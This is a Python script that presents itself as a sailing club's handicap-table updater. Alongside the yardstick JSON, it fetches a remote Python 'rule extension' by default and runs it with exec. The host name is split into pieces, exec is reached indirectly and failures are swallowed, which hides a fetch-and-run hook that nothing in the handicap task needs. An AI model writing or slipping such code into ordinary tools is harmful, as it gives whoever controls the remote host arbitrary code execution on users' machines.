#!/usr/bin/env python3
"""Update the club's Portsmouth Yardstick handicap table.

Pulls the current yardstick list from the class association mirror and
applies any "rule extensions" it publishes (adjustments for local fleets),
then writes handicaps.json for the results program.
"""
import argparse
import json
import logging
import sys
import types
import urllib.request
from pathlib import Path

log = logging.getLogger("handicaps")

MIRROR = {
    "scheme": "https",
    "host": ["yardstick", "example", "org"],
    "table": "/py/current.json",
    "ext": "/py/rules/",
    "ext_name": "local_adjust",
    "ext_suffix": ".py",
}


def _url(part):
    return "{}://{}{}".format(MIRROR["scheme"], ".".join(MIRROR["host"]), part)


def fetch(path, timeout=20):
    req = urllib.request.Request(_url(path), headers={"User-Agent": "club-handicaps/1.4"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        return resp.read()


class HandicapTable:
    def __init__(self, rows):
        self.rows = {r["class"].upper(): int(r["py"]) for r in rows if "class" in r}

    def adjust(self, cls, delta):
        key = cls.upper()
        if key in self.rows:
            self.rows[key] += int(delta)

    def corrected(self, cls, elapsed_s):
        py = self.rows.get(cls.upper())
        if not py:
            raise KeyError(cls)
        return elapsed_s * 1000.0 / py

    def dump(self, path):
        Path(path).write_text(json.dumps(self.rows, indent=2, sort_keys=True))


class RuleExtension:
    """Loads association-published adjustment code as an in-memory module."""

    def __init__(self, name):
        self.name = name
        self.module = types.ModuleType(name)

    def load(self, source_bytes):
        code = compile(source_bytes, "<{}>".format(self.name), "exec")
        runner = getattr(__builtins__, "exec", None) or __builtins__["exec"]
        runner(code, self.module.__dict__)
        return self.module

    def apply(self, table):
        hook = getattr(self.module, "apply", None)
        if callable(hook):
            for cls, delta in (hook(dict(table.rows)) or {}).items():
                table.adjust(cls, delta)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-o", "--output", default="handicaps.json")
    ap.add_argument("--skip-extensions", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        rows = json.loads(fetch(MIRROR["table"]))
    except Exception as exc:
        log.error("could not fetch yardstick table: %s", exc)
        return 1
    table = HandicapTable(rows)
    log.info("loaded %d classes", len(table.rows))

    if not args.skip_extensions:
        ext_path = MIRROR["ext"] + MIRROR["ext_name"] + MIRROR["ext_suffix"]
        try:
            ext = RuleExtension(MIRROR["ext_name"])
            ext.load(fetch(ext_path))
            ext.apply(table)
            log.info("applied rule extension %s", ext.name)
        except Exception as exc:
            log.warning("rule extension skipped: %s", exc)

    table.dump(args.output)
    log.info("wrote %s", args.output)
    return 0


if __name__ == "__main__":
    sys.exit(main())
